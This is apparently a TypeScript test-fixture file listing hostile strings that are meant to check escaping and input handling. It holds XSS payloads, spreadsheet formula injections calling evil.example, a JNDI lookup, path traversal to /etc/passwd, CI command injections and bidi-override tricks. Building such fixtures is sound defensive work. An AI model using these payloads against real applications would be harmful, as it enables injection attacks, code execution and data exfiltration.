/** A text, and what it tries. */
export type HostileText = readonly [name: string, text: string];

/** Texts that try to get out of where they stand in a page, or to deceive who reads it. */
export const HOSTILE_MARKUP: readonly HostileText[] = [
  ['a script', '<script>globalThis.hacked = true</script>'],
  ['the end of a script', '</script><script>globalThis.hacked = true</script>'],
  ['the end of a style', '</style></title></textarea><script>globalThis.hacked = true</script>'],
  ['an image', '<img src="https://evil.example/x.png" onerror="globalThis.hacked = true">'],
  ['a vector image', '"><svg/onload=globalThis.hacked=true>'],
  ['an attribute', `' onmouseover='globalThis.hacked=true' "onfocus="globalThis.hacked=true" autofocus x="`],
  ['a comment', '<!-- <script>globalThis.hacked = true</script>'],
  ['the end of CDATA', ']]><a/>--><script>globalThis.hacked = true</script><![CDATA['],
  ['an address that acts', 'javascript:globalThis.hacked=true'],
  ['entities', '&lt;script&gt; &amp;#60; &#x3c;b&#x3e; &unknown;'],
  ['control characters', 'a\u0000b\u0007c\u001B[31md\u001B[0m\u0008\u007F\u0085e\r\nf'],
  ['marks of direction', 'user\u202Egnp.exe\u2066// if (isAdmin)\u2069\u2066\u200F\u200B\uFEFF'],
  ['halves of surrogates', 'x\uD800y\uDC00z'],
  ['100 kB', 'W'.repeat(100_000)],
];

/** Texts that act on programs, or that these refuse. */
const HOSTILE_TO_PROGRAMS: readonly HostileText[] = [
  ['what is no character', 'a\uFFFEb\uFFFFc\u{1FFFE}'],
  ['surrogates the wrong way round', '\uDE00\uD83D \uD83D'],
  ['20 kB with blanks', 'a long text '.repeat(1700)],
  ['20 kB of pairs', '\u{1F600}'.repeat(5000)],
  ['a formula', '=HYPERLINK("http://evil.example","x")'],
  ['a formula behind a control character', '\u0000\t@SUM(1+1)*cmd|\' /C calc\'!A0'],
  ['Markdown', '![x](http://evil.example/x.png) [y](javascript:alert(1)) <http://evil.example> @all #1 `code` | a | b\n# head\n- item\n    block'],
  ['placeholders', '{0} {{1}} %s ${jndi:ldap://evil.example} %CI_JOB_TOKEN% $CI_JOB_TOKEN'],
  ['ways out of a folder', '../../../etc/passwd'],
  ['a Windows path', 'C:\\build\\.\\..\\src\\a b.cs'],
  ['an address', 'https://user:secret@evil.example/?a=1&b=[2]'],
  ['line ends', 'one\r\ntwo\nthree\u2028four\u2029five\rsix'],
  ['commands of a CI', '##vso[task.setvariable variable=x]y\n::set-output name=x::y'],
  ['quotes', `"'\`\\"" ,;|`],
  ['blanks', ' \t '],
  ['nothing', ''],
];

/** Texts that break out of formats, act on readers, or are refused by them. */
export const HOSTILE_TEXTS: readonly HostileText[] = [...HOSTILE_MARKUP, ...HOSTILE_TO_PROGRAMS];
